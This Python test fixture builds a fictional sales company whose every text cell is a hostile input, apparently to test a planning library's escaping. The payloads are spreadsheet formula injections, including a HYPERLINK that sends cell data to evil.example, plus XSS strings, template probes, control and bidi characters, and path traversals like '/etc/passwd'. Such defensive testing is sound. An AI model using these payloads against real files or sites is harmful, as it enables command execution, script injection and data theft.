"""A tiny company whose every text was written by somebody who wishes us harm."""

from pathlib import Path

import pandas as pd
import yaml

from spms_lib.params.scaffold import scaffold_company

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
)
PAGES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></table><iframe src=//evil.example></iframe>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1)) ![i](http://evil.example/i.png)",
    "\\<b onmouseover=alert(1)>\\</b> <!-- --> <style>*{display:none}</style>",
    "{{ 7*7 }} {% raw %} ${7*7} %s {0}",
    "&lt;script&gt; https://evil.example www.evil.example",
)
SIGNS = ("bell\x07 escape\x1b[31m", "right\u202eto\u2066left", "back\x08space\x9b31m")
MATHS = (r"$\frac{1}{$", r"$\href{javascript:alert(1)}{x}$ and $x^2$")
PATHS = ("../../x", "/etc/passwd", "C:\\Windows\\x", "CON", "..", "a/b", "nul.txt", "x" * 300)
ATTACKS = (*FORMULAS, *PAGES, *SIGNS, *MATHS, *PATHS)

ROOT_NODE, REGIONS = "=cmd|'/C calc'!A0", ("../../x", "<script>alert(1)</script>", "x" * 300)
SELLERS = (
    "@SUM(1+1)",
    '"><img src=x onerror=alert(1)>',
    r"$\frac{1}{$",
    "CON",
    "right\u202eto\u2066left",
    "a|b`c*d_e",
)
CYCLE = "2026Q4"


def attack(number: int) -> str:
    """Choose the text of a cell: every attack in turn."""
    return ATTACKS[number % len(ATTACKS)]


def tables() -> dict[str, pd.DataFrame]:
    """All tables of the company, as text."""
    people = [
        (ROOT_NODE, "", "company", attack(3), attack(10)),
        *((node, ROOT_NODE, "region", attack(10 + at), attack(at)) for at, node in enumerate(REGIONS)),
        *(
            (node, REGIONS[at // 2], "seller", attack(12 + at), attack(5 + at))
            for at, node in enumerate(SELLERS)
        ),
    ]
    days = pd.date_range("2024-01-08", "2026-10-30", freq="14D").strftime("%Y-%m-%d")
    sales = [
        (node, day, f"{1000 + 37 * number + 100 * at}.00", attack(number), attack(number + 7))
        for number, day in enumerate(days)
        for at, node in enumerate(SELLERS)
    ]
    months = [str(month) for month in pd.period_range("2024-10", "2026-12", freq="M")]
    sent = [
        (
            node,
            month,
            kind,
            f"{1500 + 100 * at}.00",
            attack(at),
            f"{month[:5]}{quarter(month)}-08 09:00:00",
            attack(at + number),
        )
        for number, month in enumerate(months)
        for at, node in enumerate(SELLERS)
        for kind in ("commit", "best_case")
    ]
    changed = [
        (
            node,
            month,
            "commit",
            "1700.00",
            attack(number),
            f"{month[:5]}{quarter(month)}-10 18:00:00",
            attack(number),
        )
        for number, month in enumerate(months[-3:])
        for node in (*SELLERS[:2], REGIONS[0])
    ]
    deals = [
        (
            text,
            SELLERS[at % len(SELLERS)],
            text,
            text,
            "open",
            text,
            "pipeline",
            text,
            "9000.00",
            "0.5",
            "2026-09-01",
            "2026-11-30",
            "2026-10-05",
        )
        for at, text in enumerate(ATTACKS)
    ]
    notes = [
        (f"N{at}", SELLERS[at % len(SELLERS)], text, text, text, "2026-09-15", "open", text)
        for at, text in enumerate(ATTACKS)
    ]
    decided = [
        (text, "2026Q3", SELLERS[0], text, text, text, "2026-10-01", "100.00", "open", "") for text in ATTACKS
    ]
    roster = [(node, attack(5 + at), "2023-01-01", attack(at)) for at, node in enumerate(SELLERS)]
    return {
        "hierarchy": _frame(people, "node parent level name owner"),
        "transactions": _frame(sales, "node date value product account"),
        "submissions": _frame(sent, "node period category value submitted_by submitted_at comment"),
        "overrides": _frame(changed, "node period category value overridden_by overridden_at reason"),
        "opportunities": _frame(
            deals,
            "opportunity node account product status stage category segment amount probability created close_date as_of",
        ),
        "notes": _frame(notes, "note node topic text author written_at status answer"),
        "decisions": _frame(
            decided, "decision cycle node type text owner due expected_effect status actual_effect"
        ),
        "roster": _frame(roster, "node person start role"),
    }


def quarter(month: str) -> str:
    """First month of a month's quarter: 10 for 2026-11."""
    return f"{(int(month[5:]) - 1) // 3 * 3 + 1:02d}"


def _frame(rows: list[tuple[str, ...]], columns: str) -> pd.DataFrame:
    return pd.DataFrame(rows, columns=columns.split(), dtype="object")


def write_company(root: Path) -> Path:
    """Write params and data of the company into a project, and return the file of its cycle."""
    file, cycle = scaffold_company("hostile", root / "params", cycle=CYCLE)
    data = root / "data" / "hostile"
    data.mkdir(parents=True)
    firm = yaml.safe_load(file.read_text())
    firm |= {"title": PAGES[0], "tables": {}}
    for name, frame in tables().items():
        frame.to_csv(data / f"{name}.csv", index=False)
        firm["tables"][name] = {"file": f"{name}.csv"}
    file.write_text(yaml.safe_dump(firm))
    told = yaml.safe_load(cycle.read_text())
    told["notebooks"]["goal_setting"] |= {"target_from": "stated", "stated_target": 120000.0}
    cycle.write_text(yaml.safe_dump(told))
    return cycle
